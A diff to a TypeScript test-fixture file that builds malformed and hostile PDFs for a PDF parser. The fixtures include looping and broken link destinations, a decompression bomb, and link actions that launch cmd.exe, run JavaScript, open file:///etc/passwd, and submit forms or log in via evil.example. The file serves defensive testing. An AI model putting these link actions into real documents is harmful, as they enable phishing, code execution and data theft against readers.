@@ -269,6 +269,35 @@ export const odd: readonly HostileFile[] = [
     outcome: 'ok',
   },
   {
+    name: 'links that lead nowhere, in circles and out of the file',
+    bytes: () =>
+      onePage({
+        catalog: '/Dests << /Loop /Loop /Deep 7 0 R >>',
+        page: '/Annots [5 0 R 6 0 R << >> null 99 0 R 8 0 R 9 0 R]',
+        more: [
+          '<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /Dest /Loop >>',
+          '<< /Type /Annot /Subtype /Link /Rect [0 200 300] /Dest [99 0 R /XYZ null null null] >>',
+          '<< /D [3 0 R /FitR (a) (b) (c) (d)] >>',
+          '<< /Type /Annot /Subtype /Link /Rect [1e30 -1e30 1 1] /Dest [-1 /XYZ 1e30 1e30 0] >>',
+          '<< /Type /Annot /Subtype /Link /Rect [10 10 20 20] /A << /S /GoToR /F (\\\\server\\share\\a.exe) /D [0 /Fit] >> >>',
+        ],
+      }),
+    pages: [boxed()],
+    outcome: 'ok',
+  },
+  {
+    name: '20,000 links on one page',
+    bytes: () =>
+      onePage({
+        page: `/Annots [${'5 0 R '.repeat(20_000)}]`,
+        more: [
+          '<< /Type /Annot /Subtype /Link /Rect [10 10 20 20] /A << /S /URI /URI (https://example.invalid/) >> >>',
+        ],
+      }),
+    pages: [boxed()],
+    outcome: 'ok',
+  },
+  {
     name: 'a password of the owner only',
     bytes: () => encryptedPage({ owner: 'owner' }),
     pages: [boxed()],
@@ -282,3 +311,38 @@ export const withPassword = (): Promise<Uint8Array<ArrayBuffer>> => encryptedPag
 /** A few kilobytes whose page is gigabytes of spaces. */
 export const withBomb = async (): Promise<Uint8Array<ArrayBuffer>> =>
   onePage({ content: stream(await bomb(2 ** 31), '/Filter [/FlateDecode /FlateDecode]') });
+
+/** Three pages; the links of the first one, from its top down, each 20 points high. */
+export function withLinks(): Uint8Array<ArrayBuffer> {
+  const targets = [
+    '/Dest [7 0 R /XYZ 20 300 null]',
+    '/Dest (second)',
+    '/A << /S /Named /N /NextPage >>',
+    '/A << /S /URI /URI (https://bank.example@evil.example/login?a=1) >>',
+    '/A << /S /URI /URI (javascript:window.stolen=1) >>',
+    '/A << /S /Launch /F (cmd.exe) >>',
+    '/A << /S /URI /URI (file:///etc/passwd) >>',
+    '/A << /S /JavaScript /JS (app.alert\\(1\\)) >>',
+    '/A << /S /SubmitForm /F (https://evil.example/) >>',
+    '/Dest (nowhere)',
+  ];
+  const links = targets.map((target, index) => {
+    const top = 390 - index * 30;
+    return `<< /Type /Annot /Subtype /Link /Border [0 0 0] /Rect [20 ${top - 20} 220 ${top}] ${target} >>`;
+  });
+  const page = (entries = ''): string =>
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R ${entries} >>`;
+  return rawPdf({
+    objects: [
+      '<< /Type /Catalog /Pages 2 0 R /Names << /Dests << /Names [(second) [6 0 R /Fit]] >> >> >>',
+      '<< /Type /Pages /Kids [3 0 R 6 0 R 7 0 R] /Count 3 >>',
+      page(`/Annots [${links.join(' ')}]`),
+      stream('1 0 0 rg 40 40 120 30 re f'),
+      undefined,
+      page(),
+      page('/Rotate 90'),
+    ],
+  });
+}
+
+export const linkedPages: readonly PageBox[] = [boxed(), boxed(), boxed({ rotation: 90 })];
